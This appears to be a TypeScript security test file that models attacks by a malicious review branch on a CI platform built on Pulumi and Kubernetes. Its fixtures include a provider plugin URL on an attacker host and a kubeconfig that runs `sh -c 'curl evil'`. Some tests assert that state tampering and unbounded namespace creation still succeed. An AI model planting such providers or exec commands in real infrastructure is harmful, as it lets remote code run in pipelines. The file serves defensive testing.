import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { reviewGroup, reviewUser } from "../../components/conventions/ci-roles";
import { labels } from "../../components/conventions/labels";
import { validateCanary } from "../../operations/canary/preconditions";
import type { Cluster } from "../../operations/clients/kubectl";
import { removeReview } from "../../operations/review/down";
import { reviewStack } from "../../operations/stacks/review-stack";
import { networkPolicies } from "../../platform/guardrail-policies";
import { permissions } from "../../platform/permissions";
import { namespaces } from "../../platform/review-policies";
import { identityOf } from "../../settings/identity";
import { Programs } from "../operations/support/programs";
import { settings } from "../support/platform";
import { refusals } from "./support/admission-stand-in";

const { circleci, review } = settings;
const branch = "evil";
const userInfo = { groups: [reviewGroup(circleci.projectId)], username: reviewUser(branch) };

/**
 * Whether the role `review`, which all branches share, may perform an action on an object of the
 * state's bucket.
 */
function reviewRoleMay(action: string, object: string): boolean {
  const statements = permissions("review", {
    clusterArns: [],
    keyArns: { review: "key" },
    repositoryArn: undefined,
    reviewRepositoryArn: undefined,
    stateBucket: "bucket",
  });
  const resource = `arn:aws:s3:::bucket/${object}`;
  return statements.some(
    ({ Action, Resource }) =>
      Action.includes(action) &&
      Resource.some((one) => resource.startsWith(one.replace(/\*$/, ""))),
  );
}
const stateOfColleague = "review/.pulumi/stacks/services-orders/review-invoice.json";

describe("an attack by a review stack", () => {
  const stack = reviewStack("review-evil", {}, { clusterUid: "here" }, undefined);
  let programs: Programs;
  beforeEach(() => {
    programs = new Programs();
  });
  afterEach(() => {
    programs.remove();
  });

  /**
   * Removes a review stack whose state contains this provider. Returns whether the command started
   * Pulumi's engine.
   */
  async function removedWith(provider: object): Promise<boolean> {
    const started = join(programs.directory, "started");
    const resources = [{ id: "x", urn: "urn:provider", ...provider }];
    programs.add("pulumi", {
      "*stack export*": `echo '${JSON.stringify({ deployment: { resources } })}'`,
      "destroy*": `touch ${started}`,
    });
    const its = labels(identityOf("review", "evil"), "namespace");
    const cluster: Cluster = {
      kubectl: async () =>
        Promise.resolve(
          existsSync(started)
            ? ""
            : JSON.stringify({
                apiVersion: "v1",
                kind: "Namespace",
                metadata: { labels: its, name: stack.namespace },
              }),
        ),
      uid: "here",
    };
    await removeReview(stack, true, cluster, programs.workspace()).catch(() => undefined);
    return existsSync(started);
  }

  const exec = { args: ["-c", "curl evil"], command: "sh" };
  const kubeconfig = JSON.stringify({ users: [{ name: "x", user: { exec } }] });
  for (const [what, provider] of Object.entries({
    "a plugin from the attacker's server": {
      inputs: { pluginDownloadURL: "https://evil.example.com" },
      type: "pulumi:providers:evil",
    },
    "a kubeconfig that runs a command": {
      inputs: { kubeconfig },
      type: "pulumi:providers:kubernetes",
    },
  })) {
    it(`C3 succeeds: main's removal starts Pulumi with ${what}`, async () => {
      assert.ok(reviewRoleMay("s3:PutObject", stateOfColleague));
      assert.equal(await removedWith(provider), true);
    });
  }

  it("H2 succeeds: a canary takes an image from a state that every branch writes, with an honest commit", () => {
    assert.ok(reviewRoleMay("s3:PutObject", stateOfColleague));
    const commit = "a".repeat(40);
    const issue = validateCanary({
      branch: "invoice",
      commit,
      containsProduction: true,
      givenImage: false,
      imageRef: `registry/services-orders-review@sha256:${"e".repeat(64)}`,
      migrations: [],
      productionCommit: commit,
      productionRuns: true,
      running: undefined,
    });
    assert.equal(issue, undefined);
  });

  const closed = (policyTypes: readonly string[]): readonly string[] =>
    refusals(networkPolicies(circleci, review), {
      object: { metadata: { name: "default-deny" }, spec: { podSelector: {}, policyTypes } },
      request: { namespace: "services-orders-review-evil", operation: "CREATE", userInfo },
    });

  it("lets the policy that closes a namespace pass, and refuses one that opens a direction", () => {
    assert.deepEqual(closed(["Ingress", "Egress"]), []);
    assert.equal(closed(["Ingress"]).length, 1);
  });

  for (const direction of ["Ingress", "Egress"]) {
    it(`H3 fails: the list ["${direction}", "${direction}"] is one direction, so the other stays open`, () => {
      assert.deepEqual(closed([direction, direction]), [
        "NetworkPolicy default-deny must select all pods, and must allow no ingress and no egress",
      ]);
    });
  }

  it("M2 succeeds: one branch makes as many namespaces as it likes, each with a quota", () => {
    for (const slug of ["evil", "evil-2", "invoice", "a-third-one"]) {
      const name = `services-orders-review-${slug}`;
      const metadata = {
        annotations: { "services-orders/owner": reviewUser(branch) },
        labels: {
          ...labels(identityOf("review", slug), "namespace"),
          "pod-security.kubernetes.io/enforce": "restricted",
        },
        name,
      };
      const found = refusals(namespaces(circleci), {
        object: { metadata },
        request: { namespace: name, operation: "CREATE", userInfo },
      });
      assert.deepEqual(found, [], slug);
    }
  });
});
